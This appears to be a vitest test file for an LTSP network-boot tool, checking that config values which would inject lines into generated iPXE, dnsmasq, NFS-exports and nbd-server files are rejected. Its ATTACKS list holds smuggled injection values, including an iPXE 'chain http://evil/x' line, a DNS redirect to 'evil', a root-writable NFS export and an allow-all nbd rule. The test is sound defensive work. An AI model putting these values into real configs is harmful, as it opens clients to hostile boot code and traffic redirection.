// Values from ltspfile.ts that end up in the iPXE menu, dnsmasq, exports or nbd-server files:
// newlines, quotes and directive-like text are refused through the real CLI (exit 2, the field
// named), and nothing is written.
import fs from "node:fs";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import os from "node:os";
import { makeSmallChroot, Prefix, scrub } from "../pipeline/helpers.ts";
import { fingerprintAll } from "./helpers.ts";

const PROXY = `proxyRanges: [{ network: "192.168.67.0", netmask: "255.255.255.0" }]`;
const base = (extra: { image?: string; ipxe?: string; dnsmasq?: string; nfs?: string; nbd?: string }) => `{
  imageDefaults: { compression: "zstd", ionice: [] },
  images: { small: { ${extra.image ?? ""} } },
  ipxe: { ${extra.ipxe ?? ""} },
  dnsmasq: { ${PROXY}, ${extra.dnsmasq ?? ""} },
  nfs: { ${extra.nfs ?? ""} },
  nbd: { enabled: true, ${extra.nbd ?? ""} },
}`;

const ATTACKS: { name: string; config: string; field: RegExp }[] = [
  { name: "menu title with a newline and an iPXE command", config: base({ image: `title: "Debian\\nshell"` }), field: /title/ },
  { name: "menu title with an iPXE variable", config: base({ ipxe: `title: "LTSP \${net0/mac}"` }), field: /title/ },
  { name: "kernel parameters with a newline", config: base({ ipxe: `kernelParameters: "quiet\\nchain http://evil/x"` }), field: /kernelParameters/ },
  { name: "kernel parameters with a double quote", config: base({ ipxe: `kernelParameters: 'quiet" || shell'` }), field: /kernelParameters/ },
  { name: "client hostname with a newline", config: base({ ipxe: `clients: [{ mac: "52:54:00:12:34:56", hostname: "pc01\\nset x y" }]` }), field: /hostname/ },
  { name: "client hostname with spaces and quotes", config: base({ ipxe: `clients: [{ mac: "52:54:00:12:34:56", hostname: 'pc "01"' }]` }), field: /hostname/ },
  { name: "dnsmasq raw line injecting a second directive", config: base({ dnsmasq: `extraLines: ["log-queries\\ndhcp-range=10.0.0.1,10.0.0.9"]` }), field: /extraLines|dnsmasq/ },
  { name: "dnsmasq DNS server with a newline", config: base({ dnsmasq: `dnsServers: ["9.9.9.9\\nserver=/evil/1.2.3.4"]` }), field: /dnsServers|dnsmasq/ },
  { name: "NFS client with an option injection", config: base({ nfs: `clients: ["*(rw,no_root_squash)"]` }), field: /clients/ },
  { name: "NFS client with a newline", config: base({ nfs: `clients: ["10.0.0.0/8\\n/ *(rw)"]` }), field: /clients/ },
  { name: "nbd export name with a section header", config: base({ image: `boot: { method: "nbd", exportName: "x]\\n[evil" }` }), field: /exportName/ },
  { name: "nbd allow entry with a newline", config: base({ nbd: `allow: ["10.0.0.0/8\\n0.0.0.0/0"]` }), field: /allow/ },
];

describe("values that would break generated files are refused (exit 2, nothing written)", () => {
  let prefix: Prefix;
  let before: Record<string, string>;

  beforeAll(async () => {
    prefix = new Prefix(fs.mkdtempSync(path.join(os.tmpdir(), "ltsp-make-test-")));
    makeSmallChroot(path.join(prefix.base, "small"));
    prefix.writeConfig(base({}));
    await prefix.build();
    before = fingerprintAll(prefix);
  });

  afterAll(() => {
    if (prefix) scrub(prefix.dir);
  });

  test.each(ATTACKS.map((a) => [a.name, a] as const))("%s", async (_name, attack) => {
    prefix.writeConfig(attack.config);
    const result = await prefix.cli(["all"]);
    prefix.writeConfig(base({}));
    const output = `${result.stderr}\n${result.stdout}`;
    expect(result.exitCode, output).toBe(2);
    expect(result.stderr, "the offending field is named").toMatch(attack.field);
    expect(result.stdout, "no task started").not.toMatch(/^start /m);
    expect(fingerprintAll(prefix)).toEqual(before);
  });
});
